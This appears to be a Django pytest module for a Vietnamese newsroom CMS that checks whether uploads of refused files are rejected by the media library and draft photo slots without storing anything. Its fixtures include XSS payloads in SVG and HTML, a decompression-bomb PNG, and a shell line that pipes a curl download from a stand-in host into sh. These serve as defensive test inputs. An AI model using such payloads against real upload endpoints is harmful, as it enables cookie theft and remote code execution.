"""Attack corpus, uploads: a logged-in reporter (group Reporter, its permissions only)
sends refused kinds of file in hand-made multipart requests, to the media library's
add view and to a photo slot of their own draft. Each is refused with the Vietnamese
error, and nothing is written: no Photo, no slot, no file in either storage."""

import json
import uuid
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.html import escape

from photos.models import ArticlePhoto, Photo
from photos.validation import MESSAGES
from tests.helpers.factories import ArticleFactory
from tests.helpers.photos import image_bytes, png_claiming

pytestmark = pytest.mark.django_db

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(1)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://example.com/x | sh\n"


def _truncated_jpeg():
    whole = image_bytes("JPEG", size=(800, 600), quality=95)
    return whole[: len(whole) // 2]


def _padded_jpeg():
    jpeg = image_bytes("JPEG", size=(800, 600))
    return jpeg + b"\x00" * (20 * 1024 - len(jpeg))  # a valid JPEG, exactly 20 KB


NOT_IMAGE = str(MESSAGES["not_image"])
CASES = {
    # name: (bytes maker, file name, claimed content type, settings, expected message)
    "svg": (lambda: SVG, "anh.svg", "image/svg+xml", {}, NOT_IMAGE),
    "svg-as-jpg": (lambda: SVG, "anh.jpg", "image/jpeg", {}, NOT_IMAGE),
    "html": (lambda: HTML, "anh.html", "text/html", {}, NOT_IMAGE),
    "html-as-jpg": (lambda: HTML, "anh.jpg", "image/jpeg", {}, NOT_IMAGE),
    "pdf": (lambda: PDF, "tai-lieu.pdf", "application/pdf", {}, NOT_IMAGE),
    "script-as-jpg": (lambda: SCRIPT, "anh.jpg", "image/jpeg", {}, NOT_IMAGE),
    "truncated-jpeg": (_truncated_jpeg, "anh.jpg", "image/jpeg", {}, str(MESSAGES["corrupt"])),
    "bomb-png": (lambda: png_claiming(100_000, 100_000), "anh.png", "image/png", {},
                 "Ảnh khai báo kích thước bất thường (10000 megapixel), có thể là “bom giải nén”; tệp bị từ chối."),
    "over-pixel-limit": (lambda: image_bytes("JPEG", size=(800, 600)), "anh.jpg", "image/jpeg",
                         {"PHOTO_MAX_PIXELS": 200_000},
                         "Ảnh quá lớn: 800×600 điểm ảnh (0,5 megapixel). Tối đa 0,2 megapixel; "
                         "hãy thu nhỏ ảnh rồi tải lại."),
    "over-size-limit": (_padded_jpeg, "anh.jpg", "image/jpeg", {"PHOTO_MAX_UPLOAD_BYTES": 2048},
                        "Tệp quá lớn: 20 KB. Tệp ảnh tải lên tối đa 2 KB."),
}


def multipart(fields: dict, file_field: str, filename: str, content_type: str, data: bytes) -> tuple[bytes, str]:
    """A multipart/form-data body written byte by byte, as a script (not a browser) would send it."""
    boundary = "----attack" + uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{filename}"\r\n'
                 f"Content-Type: {content_type}\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def files_under(*roots) -> list[Path]:
    return [path for root in roots if Path(root).exists() for path in Path(root).rglob("*") if path.is_file()]


def assert_nothing_written():
    assert Photo.objects.count() == 0
    assert ArticlePhoto.objects.count() == 0
    assert files_under(settings.MEDIA_ROOT, settings.PHOTO_ORIGINALS_ROOT) == []


@pytest.fixture
def own_draft(reporter):
    return ArticleFactory(created_by=reporter, title="Bản nháp có ảnh", byline=[])


def slot_fields(article) -> dict:
    return {
        "title": article.title, "slug": article.slug, "lead": article.lead,
        "body": json.dumps(article.body), "section": article.section_id or "", "tags": "",
        "source_published_on": "", "edit_version": article.version, "correction_kind": "", "correction_note": "",
        "author_links-TOTAL_FORMS": "0", "author_links-INITIAL_FORMS": "0",
        "author_links-MIN_NUM_FORMS": "0", "author_links-MAX_NUM_FORMS": "1000",
        "photo_slots-TOTAL_FORMS": "1", "photo_slots-INITIAL_FORMS": "0",
        "photo_slots-MIN_NUM_FORMS": "0", "photo_slots-MAX_NUM_FORMS": "1000",
        "attachments-TOTAL_FORMS": "0", "attachments-INITIAL_FORMS": "0",
        "attachments-MIN_NUM_FORMS": "0", "attachments-MAX_NUM_FORMS": "1000",
        "photo_slots-0-id": "", "photo_slots-0-article": article.pk, "photo_slots-0-photo": "",
        "photo_slots-0-alt_text": "Cầu Nhật Lệ", "photo_slots-0-caption": "", "photo_slots-0-credit": "",
        "photo_slots-0-order": "0",
    }


def test_reporter_has_only_the_reporter_groups_permissions(reporter):
    assert not reporter.is_superuser
    assert reporter.has_perm("photos.add_photo")
    assert not reporter.has_perm("photos.delete_photo")


@pytest.mark.parametrize("case", list(CASES))
def test_media_library_refuses_bad_files_from_a_reporter(client, reporter, settings, case):
    make, filename, content_type, overrides, message = CASES[case]
    for name, value in overrides.items():
        setattr(settings, name, value)
    client.force_login(reporter)
    body, header = multipart({"alt_text": "Cầu Nhật Lệ", "caption": "", "credit": "", "focal_x": "0.5",
                              "focal_y": "0.5"}, "image", filename, content_type, make())
    response = client.generic("POST", reverse("admin:photos_photo_add"), body, content_type=header)

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["image"] == [message]
    assert escape(message) in response.content.decode()
    assert_nothing_written()


@pytest.mark.parametrize("case", list(CASES))
def test_article_slot_upload_refuses_bad_files_from_a_reporter(client, reporter, own_draft, settings, case):
    make, filename, content_type, overrides, message = CASES[case]
    for name, value in overrides.items():
        setattr(settings, name, value)
    client.force_login(reporter)
    version = own_draft.version
    body, header = multipart(slot_fields(own_draft), "photo_slots-0-upload", filename, content_type, make())
    response = client.generic("POST", reverse("admin:articles_article_change", args=[own_draft.pk]), body,
                              content_type=header)

    assert response.status_code == 200
    formset = next(f for f in response.context["inline_admin_formsets"] if f.formset.prefix == "photo_slots")
    assert formset.formset.forms[0].errors["upload"] == [message]
    assert escape(message) in response.content.decode()
    assert_nothing_written()
    own_draft.refresh_from_db()
    assert own_draft.version == version  # the article was not saved either


def test_a_good_file_from_the_same_reporter_is_accepted(client, reporter, own_draft):
    # The control: the refusals above are about the files, not about the reporter.
    client.force_login(reporter)
    body, header = multipart(slot_fields(own_draft), "photo_slots-0-upload", "anh.jpg", "image/jpeg",
                             image_bytes("JPEG", size=(800, 600)))
    response = client.generic("POST", reverse("admin:articles_article_change", args=[own_draft.pk]), body,
                              content_type=header)
    assert response.status_code == 302
    slot = ArticlePhoto.objects.get()
    assert (slot.article, slot.photo) == (own_draft, Photo.objects.get())


def test_reporter_cannot_upload_into_someone_elses_draft(client, reporter, other_reporter):
    others = ArticleFactory(created_by=other_reporter, byline=[])
    client.force_login(reporter)
    body, header = multipart(slot_fields(others), "photo_slots-0-upload", "anh.jpg", "image/jpeg",
                             image_bytes("JPEG", size=(800, 600)))
    response = client.generic("POST", reverse("admin:articles_article_change", args=[others.pk]), body,
                              content_type=header)
    assert response.status_code == 403
    assert_nothing_written()
